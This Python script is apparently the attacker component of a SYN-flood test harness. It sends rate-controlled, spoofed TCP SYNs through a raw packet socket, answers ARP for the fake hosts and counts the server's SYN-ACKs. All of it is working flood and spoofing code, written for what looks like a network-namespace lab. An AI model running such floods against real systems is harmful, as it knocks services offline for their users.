#!/usr/bin/env python3
"""The attacker of syn_flood.sh: COUNT SYNs to DST:PORT from spoofed hosts of
198.51.100.0/24 (SRC_FIRST .. SRC_FIRST + HOSTS - 1), each 4-tuple once (source ports
counting up per host), random sequence numbers, written straight to IFACE through an AF_PACKET socket at about RATE per second.
The spoofed hosts answer ARP for themselves with a MAC no interface has, so the server's
SYN-ACKs reach IFACE and no kernel (the peer namespace's kernel drops them as for another
host, and sends no RST). Counts the SYN-ACKs that come back for the SYNs it sent, and apart those for the first half
(sent before syn_flood.sh starts its client, whose end also ends the server).
Prints "flood: half" on stdout once the first half is out, and at the end one line
"flood: sent=N synacks=N answered_tuples=N answered_first_half=N ... rate=R".
Usage: syn_flood.py IFACE DST_IP DST_MAC PORT COUNT RATE SRC_FIRST HOSTS"""
import random
import socket
import struct
import sys
import time

FAKE_MAC = bytes.fromhex("02005e100001")
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
BATCH = 256


def csum_add(total, data):
    if len(data) % 2:
        data += b"\0"
    total += sum(struct.unpack(f"!{len(data) // 2}H", data))
    return total


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def ip_header(src, dst, payload_len):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, 0, 0x4000, 64, 6, 0, src, dst)
    return hdr[:10] + struct.pack("!H", ~fold(csum_add(0, hdr)) & 0xFFFF) + hdr[12:]


class Flood:
    def __init__(self, iface, dst_ip, dst_mac, port, src_first, hosts):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self.sock.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
        self.sock.bind((iface, 0))
        self.sock.setblocking(False)
        self.dst = socket.inet_aton(dst_ip)
        self.dst_mac = bytes.fromhex(dst_mac.replace(":", ""))
        self.port = port
        base = struct.unpack("!I", socket.inet_aton("198.51.100.0"))[0]
        self.srcs = [struct.pack("!I", base + src_first + i) for i in range(hosts)]
        self.src_set = set(self.srcs)
        # options as Linux sends them: MSS 1460, SACK permitted, timestamps, window scale 7
        self.opts = bytes.fromhex("020405b40402080a") + b"\0" * 8 + bytes.fromhex("01030307")
        self.eth = self.dst_mac + FAKE_MAC + struct.pack("!H", ETH_P_IP)
        self.iph = {s: ip_header(s, self.dst, 20 + len(self.opts)) for s in self.srcs}
        self.sent = {}  # (src, sport) -> (seq, in the first half)
        self.synacks = 0
        self.answered = set()
        self.answered_first = set()
        self.arp_answers = 0

    def syn(self, src, sport, seq):
        tcp = struct.pack("!HHIIBBHHH", sport, self.port, seq, 0, (20 + len(self.opts)) // 4 << 4,
                          0x02, 64240, 0, 0) + self.opts
        pseudo = src + self.dst + struct.pack("!BBH", 0, 6, len(tcp))
        ck = ~fold(csum_add(csum_add(0, pseudo), tcp)) & 0xFFFF
        tcp = tcp[:16] + struct.pack("!H", ck) + tcp[18:]
        return self.eth + self.iph[src] + tcp

    def arp_reply(self, frame):
        # who-has a spoofed host: it is at FAKE_MAC
        op, sha, spa, tpa = struct.unpack("!6xH6s4s6x4s", frame[14:42])
        if op != 1 or tpa not in self.src_set:
            return
        arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 2, FAKE_MAC, tpa, sha, spa)
        self.sock.send(sha + FAKE_MAC + struct.pack("!H", ETH_P_ARP) + arp)
        self.arp_answers += 1

    def announce(self):
        # each spoofed host asks for the server: the server learns it from the request
        for src in self.srcs:
            arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, FAKE_MAC, src,
                              b"\0" * 6, self.dst)
            self.sock.send(b"\xff" * 6 + FAKE_MAC + struct.pack("!H", ETH_P_ARP) + arp)

    def drain(self):
        while True:
            try:
                frame = self.sock.recv(2048)
            except BlockingIOError:
                return
            etype = struct.unpack("!H", frame[12:14])[0]
            if etype == ETH_P_ARP:
                self.arp_reply(frame)
            elif etype == ETH_P_IP and len(frame) >= 54 and frame[23] == 6:
                self.synack(frame)

    def synack(self, frame):
        ihl = (frame[14] & 0xF) * 4
        dst = frame[30:34]
        sport, dport, _seq, ack, _off, flags = struct.unpack("!HHIIBB", frame[14 + ihl:28 + ihl])
        if flags & 0x12 != 0x12 or sport != self.port or dst not in self.src_set:
            return
        sent = self.sent.get((dst, dport))
        if sent is not None and ack == (sent[0] + 1) & 0xFFFFFFFF:
            self.synacks += 1
            self.answered.add((dst, dport))
            if sent[1]:
                self.answered_first.add((dst, dport))


def main():
    iface, dst_ip, dst_mac = sys.argv[1:4]
    port, count, rate, src_first, hosts = (int(a) for a in sys.argv[4:9])
    if count > hosts * (65536 - 1024):
        sys.exit("syn_flood.py: more SYNs than 4-tuples")
    f = Flood(iface, dst_ip, dst_mac, port, src_first, hosts)
    f.announce()
    time.sleep(0.2)
    f.drain()
    rnd = random.Random(27)
    t0 = time.monotonic()
    told = False
    n = 0
    while n < count:
        for _ in range(min(BATCH, count - n)):
            src = f.srcs[n % hosts]
            sport = 1024 + n // hosts
            seq = rnd.getrandbits(32)
            f.sent[(src, sport)] = (seq, n < count // 2)
            try:
                f.sock.send(f.syn(src, sport, seq))
            except BlockingIOError:
                pass  # the interface queue is full: this SYN is lost, as on a wire
            n += 1
        f.drain()
        if not told and n >= count // 2:
            print("flood: half", flush=True)
            told = True
        ahead = n / rate - (time.monotonic() - t0)
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - t0
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        f.drain()
        time.sleep(0.01)
    _, rx_drops = struct.unpack("II", f.sock.getsockopt(263, 6, 8))  # PACKET_STATISTICS
    first = sum(1 for v in f.sent.values() if v[1])
    print(f"flood: sent={n} synacks={f.synacks} answered_tuples={len(f.answered)} "
          f"first_half_tuples={first} answered_first_half={len(f.answered_first)} "
          f"arp_answers={f.arp_answers} rx_drops={rx_drops} seconds={took:.2f} "
          f"rate={n / took:.0f}", flush=True)


if __name__ == "__main__":
    main()
